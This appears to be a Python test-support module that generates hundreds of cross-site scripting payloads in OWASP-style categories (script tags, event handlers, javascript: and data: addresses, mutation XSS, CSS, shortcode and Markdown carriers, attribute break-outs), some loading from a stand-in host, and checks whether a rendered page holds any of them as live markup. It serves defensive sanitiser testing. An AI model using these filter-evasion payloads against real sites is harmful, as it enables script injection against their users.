# ruff: noqa: E501  (a payload is easiest to read in one line)
"""Hostile markup in OWASP's categories, and a check whether a page contains any of it live.

    from tests.support.xss import PAYLOADS, live_markup
    assert live_markup(page.content.decode()) == []

Every payload calls `xss(N)` with its own number, or names the number in an address, so that a page
shows which of them came through. `PAYLOADS` holds (category, text) pairs. Each is generated from an
acting part and the markup around it: to add one, add a line to one of the tables.
"""

import re
from base64 import b64encode
from itertools import count

from selectolax.lexbor import LexborHTMLParser, LexborNode

from tests.support.thorough import some

MARK = re.compile(r"xss\((\d+)\)|xss-(\d+)\b|xss%28(\d+)%29", re.IGNORECASE)
EVIL = "//evil.example/xss-{n}"
ACT = "xss({n})"

SCRIPTS = [
    "<script>{a}</script>", "<SCRIPT>{a}</SCRIPT>", "<script src={e}></script>",
    "<script/src={e}></script>", "<script\x0c>{a}</script>", "<script\n>{a}</script\n>",
    "<script>{a}", "<script type=module>{a}</script>", "<script >{a}</script foo>",
    "<scr<script>ipt>{a}</scr</script>ipt>", "<<script>{a}//<</script>",
    "<script>/*<!--*/{a}/*-->*/</script>", "<script async defer src='{e}'></script>",
    "<script language=vbscript>{a}</script>", "<script type=importmap>{{\"{a}\":1}}</script>",
    "<script x:href={e}>{a}</script>", "<script nonce=guess>{a}</script>",
]  # fmt: skip
# Elements that raise an event by themselves or when touched.
HANDLERS = [
    "<img src=x onerror={a}>", "<img src=x onerror=\"{a}\">", "<img/src=x/onerror={a}>",
    "<img src=/media/a.png onload={a}>", "<IMG SRC=x OnErRoR={a}>", "<img src=x\tonerror\n=\n{a}>",
    "<img src=x onerror=&#120;&#115;&#115;({n})>", "<img src='x' \x0conerror='{a}'>",
    "<img src=`x`onerror={a}>", "<img \"\"\"><b onclick={a}>\">", "<body onload={a}>",
    "<svg onload={a}>", "<svg/onload={a}>", "<svg><animate onbegin={a} attributeName=x dur=1s>",
    "<svg><set onbegin={a} attributename=x>", "<math onclick={a}>x</math>",
    "<details open ontoggle={a}><summary>x</summary></details>", "<video src=x onerror={a}>",
    "<video><source onerror={a}></video>", "<audio src=x onerror={a}>", "<input autofocus onfocus={a}>",
    "<select autofocus onfocus={a}>", "<textarea autofocus onfocus={a}>", "<keygen autofocus onfocus={a}>",
    "<marquee onstart={a}>x</marquee>", "<object data=x onerror={a}></object>",
    "<iframe onload={a}></iframe>", "<p onclick={a}>x</p>", "<a href=# onmouseover={a}>x</a>",
    "<h2 onpointerenter={a}>x</h2>", "<table onmouseenter={a}><tr><td>x</table>",
    "<p style=animation-name:x onanimationstart={a}>x</p>", "<p tabindex=1 onfocus={a}>x</p>",
    "<p popover onbeforetoggle={a}>x</p>", "<form oninput={a}><input></form>",
    "<ul oncopy={a}><li>x</ul>", "<blockquote onwheel={a}>x</blockquote>",
    "<p contenteditable oninput={a}>x</p>", "<custom-tag onclick={a} tabindex=1>x</custom-tag>",
    "<isindex onclick={a}>", "<link rel=stylesheet href=x onerror={a}>", "<style onload={a}></style>",
]  # fmt: skip
SCHEMES = [
    "javascript:{a}", "JaVaScRiPt:{a}", " javascript:{a}", "\x01javascript:{a}", "java\tscript:{a}",
    "java\nscript:{a}", "java\rscript:{a}", "java&Tab;script:{a}", "java&NewLine;script:{a}",
    "&#106;avascript:{a}", "&#x6A;avascript:{a}", "&#0000106avascript:{a}", "javascript&colon;{a}",
    "javascript&#58;{a}", "javascript://%0a{a}", "javascript:%78ss({n})", "javascript:void({a})",
    "vbscript:{a}", "livescript:{a}", "mocha:{a}", "feed:javascript:{a}", "view-source:javascript:{a}",
    "data:text/html,<script>{a}</script>", "data:text/html;base64,{b}", "data:image/svg+xml;base64,{b}",
    "data:,{a}", "blob:{a}", "filesystem:{a}", "\u00a0javascript:{a}", "\u2028javascript:{a}",
]  # fmt: skip
# Where an address may appear.
ADDRESSES = [
    "<a href='{s}'>x</a>", "<img src='{s}' alt=x>", "<iframe src='{s}'></iframe>",
    "<form action='{s}'><button>x</button></form>", "<object data='{s}'></object>",
    "<svg><a xlink:href='{s}'><text>x</text></a></svg>",
]  # fmt: skip
# Markup whose meaning changes when it is parsed again: what was inert becomes live.
MUTATIONS = [
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={a}&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror={a}>'>",
    "<noscript><p title='</noscript><img src=x onerror={a}>'></noscript>",
    "<template><img src=x onerror={a}></template>", "<svg><style><img src=x onerror={a}></style></svg>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror={a}></annotation-xml></math>",
    "<svg><foreignObject><img src=x onerror={a}></foreignObject></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={a}>",
    "<table><caption><svg><title><style><img src=x onerror={a}></style></title></svg></table>",
    "<xmp><p title='</xmp><img src=x onerror={a}>'></xmp>", "<plaintext><img src=x onerror={a}>",
    "<noembed><p title='</noembed><img src=x onerror={a}>'></noembed>",
    "<title><p title='</title><img src=x onerror={a}>'></title>",
    "<textarea><p title='</textarea><img src=x onerror={a}>'></textarea>",
    "<select><template><style><!--</style><a rel='--><img src=x onerror={a}>'></template></select>",
    "<![CDATA[><img src=x onerror={a}>]]>", "<!--><img src=x onerror={a}>-->",
    "<!-- --!><img src=x onerror={a}> -->", "<?xml ><img src=x onerror={a}> ?>",
    "<!doctype [<!ENTITY x '<img src=x onerror={a}>'>]>", "</p title='><img src=x onerror={a}>'>",
    "<p title=\"</p><img src=x onerror={a}>", "<a title='&quot;><img src=x onerror={a}>'>x</a>",
    "<img alt='`><img src=x onerror={a}>'>", "<a href='/' title='x' 'onclick={a}'>x</a>",
    "<b><p><a href='/'><table><a onclick={a}>x", "<svg><desc><![CDATA[</desc><script>{a}</script>]]></svg>",
]  # fmt: skip
FRAMES = [
    "<iframe src={e}></iframe>", "<iframe srcdoc='<script>{a}</script>'></iframe>",
    "<iframe srcdoc=&lt;script&gt;{a}&lt;/script&gt;></iframe>", "<embed src={e}>",
    "<object data={e}></object>", "<object><param name=movie value={e}></object>",
    "<applet code={e}></applet>", "<frameset><frame src={e}></frameset>", "<portal src={e}></portal>",
    "<base href={e}>", "<meta http-equiv=refresh content='0;url={e}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{a}'>", "<link rel=stylesheet href={e}>",
    "<link rel=import href={e}>", "<link rel=manifest href={e}>", "<form action={e}><button>x</button></form>",
    "<button formaction=javascript:{a}>x</button>", "<input type=image src={e} formaction={e}>",
    "<svg><use href='data:image/svg+xml;base64,{b}#x'></use></svg>", "<svg><image href={e}></svg>",
    "<math href='javascript:{a}'>x</math>", "<video poster={e}></video>", "<track src={e}>",
    "<a href=/ ping={e}>x</a>", "<img srcset='{e} 1x' src=/media/a.png>", "<img src={e}>",
    "<picture><source srcset={e}><img src=/media/a.png></picture>", "<isindex action={e}>",
    "<a href={e}>x</a>", "<a href='/\\evil.example/xss-{n}'>x</a>", "<a href='\\\\evil.example/xss-{n}'>x</a>",
]  # fmt: skip
STYLES = [
    "<style>@import '{e}';</style>", "<style>body{{background:url({e})}}</style>",
    "<p style='background:url({e})'>x</p>", "<p style='width:expression({a})'>x</p>",
    "<p style='-moz-binding:url({e})'>x</p>", "<p style=\"background:url(javascript:{a})\">x</p>",
    "<p style='position:fixed;inset:0' id=xss-{n}>x</p>", "<p style='x:\\65xpression({a})'>x</p>",
    "<table background='{e}'><tr><td>x</table>", "<td background='javascript:{a}'>x",
]  # fmt: skip
# What a shortcode, a block's comment, Markdown, front matter or a template would make of it.
CARRIERS = [
    "[caption caption='<img src=x onerror={a}>']<img src=x>[/caption]",
    "[caption]<img src=x onerror={a}><script>{a}</script>[/caption]",
    "[embed]javascript:{a}[/embed]", "[video src='javascript:{a}'][/video]",
    "[embed]https://evil.example/\"onmouseover={a}//[/embed]", "[x y='><script>{a}</script>']",
    "<!-- wp:html --><script>{a}</script><!-- /wp:html -->",
    "<!-- wp:embed {{\"url\":\"javascript:{a}\"}} --><figure class=wp-block-embed>javascript:{a}</figure>",
    "<!-- wp:paragraph {{\"x\":\"--><script>{a}</script>\"}} -->x<!-- /wp:paragraph -->",
    "[x](javascript:{a})", "[x](<javascript:{a}>)", "[x]: javascript:{a}\n\n[x]", "![x](javascript:{a})",
    "![x](x\"onerror={a})", "<javascript:{a}>", "`<script>{a}</script>`\n<script>{a}</script>",
    "```\n</code></pre><script>{a}</script>\n```", "[x](data:text/html;base64,{b})",
    "[x](https://e.example 'y\" onmouseover={a} z')", "{{{{ {a} }}}}<script>{a}</script>",
    "https://evil.example/\"><script>{a}</script>",
]  # fmt: skip
# Texts that leave an attribute, an element or a data block of the page around them.
BREAKOUTS = [
    "\"><script>{a}</script>", "'><img src=x onerror={a}>", "</title><script>{a}</script>",
    "</textarea><script>{a}</script>", "</script><script>{a}</script>", "--><script>{a}</script>",
    "]]><script>{a}</script>", "\" onmouseover={a} x=\"", "' autofocus onfocus={a} x='",
    "\\\"><script>{a}</script>", "</style><script>{a}</script>", "&lt;script&gt;{a}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{a}&amp;lt;/script&amp;gt;", "\u2028</script><script>{a}</script>",
    "+ADw-script+AD4-{a}+ADw-/script+AD4-", "\uff1cscript\uff1e{a}\uff1c/script\uff1e",
    "%3Cscript%3E{a}%3C/script%3E", "\x0b<script>{a}</script>",
]  # fmt: skip


def _generated() -> list[tuple[str, str]]:
    tables = {
        "script elements": SCRIPTS,
        "event handlers": HANDLERS,
        "addresses that act": [ADDRESSES[0].replace("{s}", s) for s in SCHEMES]
        + [
            markup.replace("{s}", SCHEMES[i])
            for markup in ADDRESSES[1:]
            for i in (0, 3, 4, 9, 22, 23)
        ],
        "mutations": MUTATIONS,
        "frames, forms and foreign content": FRAMES,
        "styles": STYLES,
        "carriers": CARRIERS,
        "break-outs": BREAKOUTS,
    }
    numbers = count(1)
    return [
        (name, _filled(text, next(numbers))) for name, texts in tables.items() for text in texts
    ]


def _filled(text: str, n: int) -> str:
    act = ACT.format(n=n)
    coded = b64encode(f"<svg onload={act}>".encode()).decode()
    return text.format(n=n, a=act, e=EVIL.format(n=n), b=coded)


ALL = _generated()
PAYLOADS = some(ALL, 5)
# Elements that our own pages use, too: with a payload's mark in them they are the payload's.
ACTIVE = {"script", "iframe", "frame", "object", "embed", "applet", "base", "meta", "link", "form",
          "input", "button", "select", "style", "svg", "math", "video", "audio", "source", "track",
          "portal", "template", "marquee", "animate", "set", "use", "image", "foreignobject",
          "isindex", "keygen", "param"}  # fmt: skip
ADDRESS = {"href", "src", "action", "formaction", "data", "xlink:href", "poster", "background",
           "srcset", "ping", "code", "srcdoc", "x:href"}  # fmt: skip
KNOWN = {"http", "https", "mailto", "tel"}
_UNSEEN = re.compile(r"[\x00-\x20\u00a0\u2028\u2029]")


def marks(text: str) -> set[int]:
    return {int(next(filter(None, match.groups()))) for match in MARK.finditer(text)}


def live_markup(page: str) -> list[str]:
    """The elements of payloads that came through as live markup; empty if all of it is text.

    The parser follows the HTML standard, as a browser does.
    """
    return [
        f"<{node.tag} {node.attributes}> {(node.text() or '')[:60]}"
        for node in LexborHTMLParser(page).root.traverse(include_text=False)
        if _acts(node.tag or "", {k: v or "" for k, v in node.attributes.items()}, node)
    ]


def _acts(tag: str, attributes: dict[str, str], node: LexborNode) -> bool:
    # The label of a chart of ours, or the data of a button, is quoted text.
    relevant = {
        name: value
        for name, value in attributes.items()
        if name != "aria-label" and not name.startswith("data-")
    }
    whole = " ".join(f"{name}={value}" for name, value in relevant.items())
    if any(name.startswith("on") for name in attributes):
        return True  # Our own pages have none: the policy forbids them.
    if any(_address_acts(attributes[name]) for name in ADDRESS & set(attributes)):
        return True
    if "style" in attributes and marks(whole):
        return True
    if tag in {"script", "style"} and attributes.get("type") != "application/ld+json":
        whole += node.text(deep=True) or ""
    return tag in ACTIVE and bool(marks(whole)) and not _only_quotes(tag, attributes)


def _only_quotes(tag: str, attributes: dict[str, str]) -> bool:
    """Elements that describe the page and text fields quote a payload harmlessly."""
    if tag == "meta":
        return "http-equiv" not in attributes
    if tag == "link":
        return attributes.get("rel") in {"canonical", "alternate"}
    return tag == "input" and not marks(attributes.get("src", ""))


def _address_acts(address: str) -> bool:
    """Whether a browser would run the address, or request a payload's host because of it."""
    plain = _UNSEEN.sub("", address)
    scheme = re.match(r"([a-z][a-z0-9+.-]*):", plain, re.IGNORECASE)
    if scheme:
        return scheme[1].lower() not in KNOWN
    return plain.startswith(("//", "/\\", "\\")) and bool(marks(address))
